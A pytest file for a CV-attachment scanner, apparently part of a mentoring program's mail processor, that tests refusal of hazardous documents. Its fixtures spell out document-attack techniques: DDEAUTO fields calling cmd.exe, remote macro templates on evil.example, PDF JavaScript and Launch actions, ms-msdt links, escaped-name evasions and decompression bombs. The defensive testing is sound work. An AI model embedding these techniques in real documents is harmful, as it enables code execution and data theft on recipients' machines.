"""A CV that is passed on holds nothing that runs, opens, fetches or carries something (fault 60)."""

from __future__ import annotations

import hashlib
import os
import zlib
from collections.abc import Callable
from datetime import UTC, datetime
from email.message import EmailMessage
from email.policy import SMTP

import pytest

from processor.core.cv import Cv, find_cv, hazard_of, may_go_out
from processor.core.inspection import Hazard
from processor.reader.parse import parse
from tests.cv_samples import compound, docx, object_stream, odt, packed, pdf, relationship, stream

NOW = datetime(2026, 3, 2, 8, 0, tzinfo=UTC)
JS = b"<</S/JavaScript/JS(app.alert(1))>>"
EVIL = "https://evil.example/t.dotm"


LOCKED_MANIFEST = (
    '<manifest:x xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
    "<manifest:encryption-data/></manifest:x>"
)


def field(code: str, *, cut: int = 0) -> str:
    """A field code in one run, or cut over two."""
    runs = (code[:cut], code[cut:]) if cut else (code,)
    return "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)


def hex_name(name: bytes) -> bytes:
    return b"/" + b"".join(b"#%02x" % letter for letter in name)


REFUSED: dict[str, tuple[str, bytes, Hazard]] = {
    # DOCX
    "a macro project": ("cv.docx", docx({"word/vbaProject.bin": b"x"}), Hazard.MACROS),
    "a macro project in capitals": ("cv.docx", docx({"WORD/VBAPROJECT.BIN": b"x"}), Hazard.MACROS),
    "a macro project in another folder": ("cv.docx", docx({"x\\vbaProject.bin": b"x"}), Hazard.MACROS),
    "a macro project by its relationship": (
        "cv.docx",
        docx(
            rels=relationship(
                "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "a.bin", external=False
            )
        ),
        Hazard.MACROS,
    ),
    "a macro project with an escaped relationship": (
        "cv.docx",
        docx(rels=relationship("http://x/vba&#80;roject", "a.bin", external=False)),
        Hazard.MACROS,
    ),
    "a macro-enabled type": (
        "cv.docx",
        docx(main="application/vnd.ms-word.document.macroEnabled.main+xml"),
        Hazard.MACROS,
    ),
    "an escaped macro-enabled type": (
        "cv.docx",
        docx(main="application/vnd.ms-word.document.macro&#x45;nabled.main+xml"),
        Hazard.MACROS,
    ),
    "the data of macros": ("cv.docx", docx({"word/vbaData.xml": "<x/>"}), Hazard.MACROS),
    "a control": ("cv.docx", docx({"word/activeX/activeX1.xml": "<x/>"}), Hazard.MACROS),
    "a template of the web": (
        "cv.docx",
        docx({"word/_rels/settings.xml.rels": f"<R>{relationship('attachedTemplate', EVIL)}</R>"}),
        Hazard.REMOTE,
    ),
    "a template of a share": (
        "cv.docx",
        docx(rels=relationship("attachedTemplate", "file://evil.example/t.dotx")),
        Hazard.REMOTE,
    ),
    "a template by UNC": (
        "cv.docx",
        docx(rels=relationship("attachedTemplate", r"\\evil\t.dotx")),
        Hazard.REMOTE,
    ),
    "a local template with macros": (
        "cv.docx",
        docx(rels=relationship("attachedTemplate", "file:///C:\\Users\\x\\t.dotm")),
        Hazard.REMOTE,
    ),
    "a remote picture": (
        "cv.docx",
        docx(rels=relationship("image", "http://evil.example/x.png")),
        Hazard.REMOTE,
    ),
    "a remote picture that does not say so": (
        "cv.docx",
        docx(rels=relationship("image", "http://evil.example/x.png", external=False)),
        Hazard.REMOTE,
    ),
    "a remote object": (
        "cv.docx",
        docx(rels=relationship("oleObject", "mhtml:http://evil.example!x")),
        Hazard.EMBEDDED,
    ),
    "a hyperlink to a share": (
        "cv.docx",
        docx(rels=relationship("hyperlink", r"\\evil.example\x")),
        Hazard.REMOTE,
    ),
    "a hyperlink to a file": (
        "cv.docx",
        docx(rels=relationship("hyperlink", "file:///C:/x.exe")),
        Hazard.REMOTE,
    ),
    "a hyperlink to a program": (
        "cv.docx",
        docx(rels=relationship("hyperlink", "ms-msdt:/id x")),
        Hazard.REMOTE,
    ),
    "relationships with a prefix": (
        "cv.docx",
        docx({"word/_rels/footer.xml.rels": f"<p:{relationship('frame', EVIL)[1:]}"}),
        Hazard.EMBEDDED,
    ),
    "relationships in UTF-16": (
        "cv.docx",
        docx({"word/_rels/a.xml.rels": f"<R>{relationship('image', EVIL)}</R>".encode("utf-16")}),
        Hazard.REMOTE,
    ),
    "a DDE field": ("cv.docx", docx(body=field("DDEAUTO c:\\\\windows\\\\cmd.exe")), Hazard.REMOTE),
    "a DDE field in two runs": ("cv.docx", docx(body=field("DDEAUTO c:\\\\x", cut=3)), Hazard.REMOTE),
    "a DDE field with a comment": ("cv.docx", docx(body=field("DD<!-- x -->EAUTO c:\\\\x")), Hazard.REMOTE),
    "a DDE field in CDATA": ("cv.docx", docx(body=field("<![CDATA[DDE cmd x]]>")), Hazard.REMOTE),
    "a DDE field of entities": ("cv.docx", docx(body=field("&#68;DEAUTO cmd")), Hazard.REMOTE),
    "a DDE field of numbers": ("cv.docx", docx(body=field("QUOTE 68 68 69 65 85 84 79")), Hazard.REMOTE),
    "a simple DDE field": ("cv.docx", docx(body='<w:fldSimple w:instr="DDE cmd x"/>'), Hazard.REMOTE),
    "a DDE field in a footer": (
        "cv.docx",
        docx({"word/footer1.xml": f"<w:ftr>{field('DDE cmd x')}</w:ftr>"}),
        Hazard.REMOTE,
    ),
    "a DDE field in a part with a picture's name": (
        "cv.docx",
        docx({"word/footer1.png": f"<w:ftr>{field('DDE cmd x')}</w:ftr>"}),
        Hazard.REMOTE,
    ),
    "an included text": ("cv.docx", docx(body=field('INCLUDETEXT "http://evil.example/x"')), Hazard.REMOTE),
    "an object": ("cv.docx", docx({"word/embeddings/oleObject1.bin": b"x"}), Hazard.EMBEDDED),
    "an embedded document": ("cv.docx", docx({"word/embeddings/a.xlsx": b"x"}), Hazard.EMBEDDED),
    "a chunk of another format": (
        "cv.docx",
        docx(rels=relationship("aFChunk", "a.htm", external=False)),
        Hazard.EMBEDDED,
    ),
    "a program inside": ("cv.docx", docx({"word/run.exe": b"MZ"}), Hazard.EMBEDDED),
    "a declared entity": (
        "cv.docx",
        docx({"word/x.xml": '<!DOCTYPE a [<!ENTITY b "DDE">]><a/>'}),
        Hazard.BROKEN,
    ),
    "another encoding": (
        "cv.docx",
        docx({"word/x.xml": '<?xml version="1.0" encoding="utf-7"?><a/>'}),
        Hazard.BROKEN,
    ),
    "a comment without end": ("cv.docx", docx({"word/x.xml": "<a><!-- "}), Hazard.BROKEN),
    "a bomb": ("cv.docx", docx({"word/x.xml": b" " * 30_000_000}), Hazard.PACKED),
    "a bomb that is no part of the text": (
        "cv.docx",
        docx({"word/media/x.bmp": bytes(50_000_000)}),
        Hazard.PACKED,
    ),
    "two thousand parts": (
        "cv.docx",
        docx({f"word/media/{n}.png": b"x" for n in range(2_000)}),
        Hazard.PACKED,
    ),
    "something before it": ("cv.docx", b"MZ" + docx(), Hazard.MISMATCH),
    "an archive before it": ("cv.docx", packed({"a": b"x"}) + docx(), Hazard.MISMATCH),
    "cut off": ("cv.docx", docx()[:-30], Hazard.BROKEN),
    "only the first bytes": ("cv.docx", b"PK\x03\x04" + bytes(100), Hazard.BROKEN),
    "a workbook": (
        "cv.docx",
        packed({"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<a/>"}),
        Hazard.MISMATCH,
    ),
    "any archive": ("cv.docx", packed({"a.txt": "x"}), Hazard.MISMATCH),
    "a locked one": ("cv.docx", compound("EncryptedPackage", "EncryptionInfo"), Hazard.LOCKED),
    "an old one": ("cv.docx", compound(), Hazard.MISMATCH),
    # ODT
    "Basic": ("cv.odt", odt({"Basic/Standard/Module1.xml": "<x/>"}), Hazard.MACROS),
    "scripts": ("cv.odt", odt({"Scripts/python/x.py": "x"}), Hazard.MACROS),
    "an event": (
        "cv.odt",
        odt(head='<office:scripts><script:event-listener xlink:href="x"/></office:scripts>'),
        Hazard.MACROS,
    ),
    "a script's address": (
        "cv.odt",
        odt(body='<text:a xlink:href="vnd.sun.star.script:x">a</text:a>'),
        Hazard.MACROS,
    ),
    "an object of ODT": ("cv.odt", odt({"Object 1/content.xml": "<x/>"}), Hazard.EMBEDDED),
    "an object in the text": (
        "cv.odt",
        odt(body='<draw:object-ole xlink:href="./Object 1"/>'),
        Hazard.EMBEDDED,
    ),
    "a remote picture of ODT": (
        "cv.odt",
        odt(body='<draw:image xlink:href="http://evil.example/x"/>'),
        Hazard.REMOTE,
    ),
    "a picture of a share": (
        "cv.odt",
        odt(body='<draw:image xlink:href="//evil.example/x"/>'),
        Hazard.REMOTE,
    ),
    "a link to a file": (
        "cv.odt",
        odt(body='<text:a xlink:href="file:///etc/passwd">a</text:a>'),
        Hazard.REMOTE,
    ),
    "DDE of ODT": ("cv.odt", odt(body="<text:dde-connection-decls/>"), Hazard.REMOTE),
    "a section of elsewhere": ("cv.odt", odt(body='<text:section-source xlink:href="x"/>'), Hazard.REMOTE),
    "other prefixes": (
        "cv.odt",
        odt(namespaces='xmlns:o="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'),
        Hazard.BROKEN,
    ),
    "a locked ODT": (
        "cv.odt",
        odt({"META-INF/manifest.xml": LOCKED_MANIFEST}),
        Hazard.LOCKED,
    ),
    "a spreadsheet": (
        "cv.odt",
        odt(mimetype="application/vnd.oasis.opendocument.spreadsheet"),
        Hazard.MISMATCH,
    ),
    "a DOCX by another name": ("cv.odt", docx(), Hazard.MISMATCH),
    # DOC
    "Word macros": ("cv.doc", compound("Macros", "VBA"), Hazard.MACROS),
    "a VBA project": ("cv.doc", compound("_VBA_PROJECT"), Hazard.MACROS),
    "the old project": ("cv.doc", compound("_VBA_PROJECT_CUR"), Hazard.MACROS),
    "an object in the pool": ("cv.doc", compound("_1234567890"), Hazard.EMBEDDED),
    "a packed file": ("cv.doc", compound("\x01Ole10Native"), Hazard.EMBEDDED),
    "a locked DOC": ("cv.doc", compound(flags=0x0100), Hazard.LOCKED),
    "DDE of DOC": ("cv.doc", compound(text=b"a\x13 DDEAUTO c:\\x\x14b\x15"), Hazard.REMOTE),
    "DDE of DOC in wide letters": (
        "cv.doc",
        compound(text="a\x13DDE cmd x\x15".encode("utf-16-le")),
        Hazard.REMOTE,
    ),
    "a template of DOC": ("cv.doc", compound(text=EVIL.encode("utf-16-le")), Hazard.REMOTE),
    "a workbook of old": (
        "cv.doc",
        compound().replace("WordDocument".encode("utf-16-le"), "Workbook\0\0\0\0".encode("utf-16-le")),
        Hazard.MISMATCH,
    ),
    "RTF": ("cv.doc", b"{\\rtf1 x}", Hazard.MISMATCH),
    "HTML": ("cv.doc", b"<html>", Hazard.MISMATCH),
    "no Word": ("cv.doc", compound(mark=b"\0\0"), Hazard.BROKEN),
    # PDF
    "a program before": ("cv.pdf", b"MZ\x90evil" + pdf(), Hazard.MISMATCH),
    "an archive before a PDF": ("cv.pdf", docx() + pdf(), Hazard.MISMATCH),
    "a page before": ("cv.pdf", b"<html><script>x</script>" + pdf(), Hazard.MISMATCH),
    "a blank before": ("cv.pdf", b"\n" + pdf(), Hazard.MISMATCH),
    "a byte order mark before": ("cv.pdf", b"\xef\xbb\xbf" + pdf(), Hazard.MISMATCH),
    "a page behind its first line": (
        "cv.pdf",
        pdf(head=b"%PDF-1.7\n<html><script>x</script>"),
        Hazard.MISMATCH,
    ),
    "an archive behind": ("cv.pdf", pdf(tail=docx()), Hazard.MISMATCH),
    "a script": ("cv.pdf", pdf(JS), Hazard.MACROS),
    "a script by reference": ("cv.pdf", pdf(b"<</S /JavaScript /JS 9 0 R>>"), Hazard.MACROS),
    "a script behind a comment": ("cv.pdf", pdf(b"<</S%x\n/JavaScript/JS%y\n(x)>>"), Hazard.MACROS),
    "a script with an escaped name": (
        "cv.pdf",
        pdf(b"<</S" + hex_name(b"JavaScript") + b"/J#53(x)>>"),
        Hazard.MACROS,
    ),
    "half an escaped name": ("cv.pdf", pdf(b"<</S/Java#53cript/JS(x)>>"), Hazard.MACROS),
    "a tree of scripts": ("cv.pdf", pdf(b"<</Names<</Dests 7 0 R/JavaScript 8 0 R>>>>"), Hazard.MACROS),
    "a script behind a stroke": ("cv.pdf", pdf(b"<</X 1/JavaScript 8 0 R>>"), Hazard.MACROS),
    "a form with scripts": ("cv.pdf", pdf(b"<</Fields[]/XFA 8 0 R>>"), Hazard.MACROS),
    "a hex script": ("cv.pdf", pdf(b"<</S/Rendition/JS<6170702e616c657274>>>"), Hazard.MACROS),
    "a packed script": ("cv.pdf", pdf(object_stream(JS)), Hazard.MACROS),
    "a packed script that says nothing of it": ("cv.pdf", pdf(object_stream(JS, b"")), Hazard.MACROS),
    "a packed script behind a string": ("cv.pdf", pdf(object_stream(JS, b"/X(1 0 obj)")), Hazard.MACROS),
    "a packed script with escaped names": (
        "cv.pdf",
        pdf(object_stream(b"<</S/#4aavaScript/JS(x)>>", b"/Type/O#62jStm")),
        Hazard.MACROS,
    ),
    "a packed script in a broken stream": (
        "cv.pdf",
        pdf(
            stream(zlib.compress(b"9 0 " + JS * 50)[:-6], b"/Filter/FlateDecode/Type/ObjStm", packed_with=b"")
        ),
        Hazard.MACROS,
    ),
    "a script packed in ASCII": (
        "cv.pdf",
        pdf(
            stream(
                (b"9 0 " + JS).hex().encode() + b">", b"/Type/ObjStm/Filter/ASCIIHexDecode", packed_with=b""
            )
        ),
        Hazard.MACROS,
    ),
    "objects with a predictor": (
        "cv.pdf",
        pdf(stream(b"x9 0 " + JS, b"/Type/ObjStm/DecodeParms<</Predictor 12>>")),
        Hazard.BROKEN,
    ),
    "objects packed in an old way": (
        "cv.pdf",
        pdf(stream(b"x", b"/Type/ObjStm/Filter/LZWDecode", packed_with=b"")),
        Hazard.BROKEN,
    ),
    "an open stream with an object": ("cv.pdf", pdf(stream(JS, packed_with=b"")), Hazard.MACROS),
    "a launch": ("cv.pdf", pdf(b"<</S/Launch/F(cmd.exe)>>"), Hazard.REMOTE),
    "a launch at the opening": (
        "cv.pdf",
        pdf(b"<</OpenAction<</S /Launch /Win<</F(cmd.exe)>>>>>>"),
        Hazard.REMOTE,
    ),
    "a page at the opening": (
        "cv.pdf",
        pdf(b"<</OpenAction<</S/URI/URI(http://evil.example)>>>>"),
        Hazard.REMOTE,
    ),
    "a page at the opening, by reference": (
        "cv.pdf",
        pdf(b"<</OpenAction 6 0 R>>", b"<</S/URI/URI(http://evil.example)>>"),
        Hazard.REMOTE,
    ),
    "a link to a share in a PDF": ("cv.pdf", pdf(b"<</S/URI/URI(\\\\\\\\evil\\\\x)>>"), Hazard.REMOTE),
    "a link to a program in a PDF": ("cv.pdf", pdf(b"<</S/URI/URI( javascript:x)>>"), Hazard.REMOTE),
    "another document": ("cv.pdf", pdf(b"<</S/GoToR/F(\\\\\\\\evil\\\\x.pdf)>>"), Hazard.REMOTE),
    "a form that is sent": ("cv.pdf", pdf(b"<</S/SubmitForm/F(http://evil.example)>>"), Hazard.REMOTE),
    "a file inside a PDF": ("cv.pdf", pdf(stream(b"MZ", b"/Type/EmbeddedFile")), Hazard.EMBEDDED),
    "a tree of files": ("cv.pdf", pdf(b"<</Names<</EmbeddedFiles 8 0 R>>>>"), Hazard.EMBEDDED),
    "a file with an escaped name": (
        "cv.pdf",
        pdf(b"<</Type" + hex_name(b"EmbeddedFile") + b">>"),
        Hazard.EMBEDDED,
    ),
    "a film": ("cv.pdf", pdf(b"<</Subtype/RichMedia/RichMediaContent 8 0 R>>"), Hazard.EMBEDDED),
    "a locked PDF": ("cv.pdf", pdf(trailer=b"/Encrypt 8 0 R"), Hazard.LOCKED),
    "a bomb of objects": ("cv.pdf", pdf(object_stream(b" " * 30_000_000)), Hazard.PACKED),
    "many bombs of objects": ("cv.pdf", pdf(*[object_stream(b" " * 3_000_000)] * 9), Hazard.PACKED),
    # seen later
    "an archive and a program": ("cv.docx", docx() + b"MZ" + bytes(300), Hazard.MISMATCH),
    "a chain of filters": (
        "cv.pdf",
        pdf(
            stream(
                zlib.compress(b"9 0 " + JS).hex().encode() + b">",
                b"/Type/ObjStm/Filter[/ASCIIHexDecode/FlateDecode]",
                packed_with=b"",
            )
        ),
        Hazard.MACROS,
    ),
    "a file that hides its type": ("cv.pdf", pdf(b"<</Type/Filespec/EF<</F 9 0 R>>>>"), Hazard.EMBEDDED),
    "an address in hex": ("cv.pdf", pdf(b"<</S/URI/URI<6a617661>>>"), Hazard.REMOTE),
    "an address in octal": ("cv.pdf", pdf(b"<</S/URI/URI(\\152avascript:x)>>"), Hazard.REMOTE),
    "dialogs": ("cv.odt", odt({"Dialogs/Standard/dialog-lb.xml": "<x/>"}), Hazard.MACROS),
    "relationships over lines": (
        "cv.docx",
        docx(
            rels="<Relationship\nId='a'\nTargetMode = 'External'\nTarget = 'http://e.io/1' Type='http://x/image'/>"
        ),
        Hazard.REMOTE,
    ),
    "a field in three runs": (
        "cv.docx",
        docx(body=field("D") + "<w:t>x</w:t>" + field("DE cmd")),
        Hazard.REMOTE,
    ),
    # names
    "a program as a PDF": ("cv.exe.pdf", pdf(), Hazard.NAME),
    "a program with blanks": ("cv.exe .pdf", pdf(), Hazard.NAME),
    "a macro document as a DOCX": ("cv.docm.docx", docx(), Hazard.NAME),
    "a page as a PDF": ("cv.HTML.pdf", pdf(), Hazard.NAME),
    "a name turned around": ("cv\u202efdp.pdf", pdf(), Hazard.NAME),
    "a PDF as a program": ("cv.pdf.exe", pdf(), Hazard.KIND),
    "a macro document": ("cv.docm", docx(), Hazard.KIND),
    "a PDF as a DOCX": ("cv.docx", pdf(), Hazard.MISMATCH),
    "a DOCX as a PDF": ("cv.pdf", docx(), Hazard.MISMATCH),
    "nothing": ("cv.pdf", b"", Hazard.MISMATCH),
}
FINE: dict[str, tuple[str, bytes]] = {
    "a PDF": ("Jane Doe CV.pdf", pdf()),
    "a PDF with packed objects": (
        "cv.v2.pdf",
        pdf(object_stream(b"<</Title(Java/JavaScript)/S/URI/URI(mailto:a@b)>>")),
    ),
    "a PDF with noise": ("cv.docx.pdf", pdf(stream(os.urandom(200_000), packed_with=b"/Filter/DCTDecode"))),
    "a PDF that packs its pages": ("jane@mail.com.pdf", pdf(stream(b"1 0 0 1 72 720 cm BT (x) Tj ET" * 500))),
    "a DOCX": ("Ana.Diaz.2026.docx", docx()),
    "a DOCX with links": (
        "cv.docx",
        docx(rels=relationship("hyperlink", "https://www.linkedin.com/in/jane")),
    ),
    "a DOCX of a local template": (
        "cv.docx",
        docx(rels=relationship("attachedTemplate", "file:///C:\\Users\\jane\\Templates\\Resume.dotx")),
    ),
    "a DOCX with fields": ("cv.docx", docx(body=field(" PAGE ") + field('HYPERLINK "https://a.example"'))),
    "an ODT": ("cv.odt", odt()),
    "a DOC": ("cv.doc", compound()),
    "a DOC with properties": ("cv.doc", compound("Data", "\x05SummaryInformation")),
    "a PDF with an outline": ("J.R.R. Doe.pdf", pdf(b"<</Type/Outlines/First 3 0 R/Count 1>>")),
}


def mail_with(name: str, content: bytes, kind: str = "octet-stream") -> bytes:
    mail = EmailMessage(policy=SMTP)
    mail["From"], mail["To"], mail["Subject"] = "lee@example.org", "mentors@program.example", "SIGN UP MENTEE"
    mail.set_content("Name: Lee Chan\nPractice areas: Critical care\n")
    mail.add_attachment(content, maintype="application", subtype=kind, filename=name)
    return mail.as_bytes()


def test_there_are_a_hundred_documents_with_a_hazard() -> None:
    assert len(REFUSED) >= 100


@pytest.mark.parametrize("sample", REFUSED)
def test_a_document_with_a_hazard_is_refused_for_it(sample: str) -> None:
    name, content, hazard = REFUSED[sample]
    assert hazard_of(name, "application/octet-stream", content) is hazard


@pytest.mark.parametrize("sample", REFUSED)
def test_the_bytes_of_a_refused_document_never_leave_the_reader(sample: str) -> None:
    name, content, _ = REFUSED[sample]
    if len(content) > 4_000_000:
        return
    files = parse(mail_with(name, content), NOW).attachments
    assert [f.content for f in files] == [b""]
    assert find_cv(files) is None


@pytest.mark.parametrize("sample", FINE)
def test_a_document_of_words_is_kept(sample: str) -> None:
    name, content = FINE[sample]
    assert hazard_of(name, "application/octet-stream", content) is None
    found = find_cv(parse(mail_with(name, content), NOW).attachments)
    assert found is not None
    assert found.content == content


@pytest.mark.parametrize(
    ("kind", "hazard"),
    [
        ("vnd.ms-word.document.macroEnabled.12", Hazard.MACROS),
        ("x-msdownload", Hazard.MISMATCH),
        ("javascript", Hazard.MISMATCH),
    ],
)
def test_the_type_that_the_sender_gives_counts_too(kind: str, hazard: Hazard) -> None:
    (file,) = parse(mail_with("cv.docx", docx(), kind), NOW).attachments
    assert (file.refused, file.content) == (hazard, b"")


def test_one_that_was_kept_earlier_is_looked_into_before_it_goes_out() -> None:
    assert may_go_out(Cv(suffix=".docx", content=docx()))
    assert not may_go_out(Cv(suffix=".docx", content=docx({"word/vbaProject.bin": b"x"})))


JUNK = (
    *(
        b"<!--",
        b"<a b='",
        b"<aaaa:",
        b"<Relationship a=",
        b"<w:instrText>",
        b"<fldSimple ",
        b"QUOTE 11 11",
        b"a=",
    ),
    *(
        b"stream\n",
        b"stream\nx\x9c",
        b"/JS%",
        b"/S ",
        b"/URI(",
        b"/JavaScript 1 ",
        b"/OpenAction<<",
        b"/Encrypt%",
        b"#4a",
    ),
    *(b"(((", b"obj<<", b"/S" + b" " * 50),
)


@pytest.mark.parametrize("junk", JUNK)
def test_no_junk_takes_the_square_of_its_size(junk: bytes) -> None:
    """It would end in the reader's limits, and the mail with it. The yardstick is a busy machine's, too."""
    begun = _cpu()
    hashlib.sha256(bytes(200_000_000)).digest()
    yardstick = _cpu() - begun
    wraps: tuple[tuple[Callable[[bytes], bytes], str], ...] = (
        (_as_docx, "cv.docx"),
        (pdf, "cv.pdf"),
        (_as_doc, "cv.doc"),
    )
    for wrap, name in wraps:
        data = wrap(b"<a>" + junk * (2_000_000 // len(junk)))
        begun = _cpu()
        hazard_of(name, "x/y", data)
        assert _cpu() - begun < 20 * yardstick, name  # less than 4 of them; the square is some thousands


def _as_docx(junk: bytes) -> bytes:
    text = b"<a xmlns:text='urn:oasis:names:tc:opendocument:xmlns:text:1.0'>" + junk
    return docx({"word/a.xml": text}, rels=junk.decode("latin-1"))


def _as_doc(junk: bytes) -> bytes:
    return compound(text=junk)


def _cpu() -> float:
    times = os.times()
    return times.user + times.system
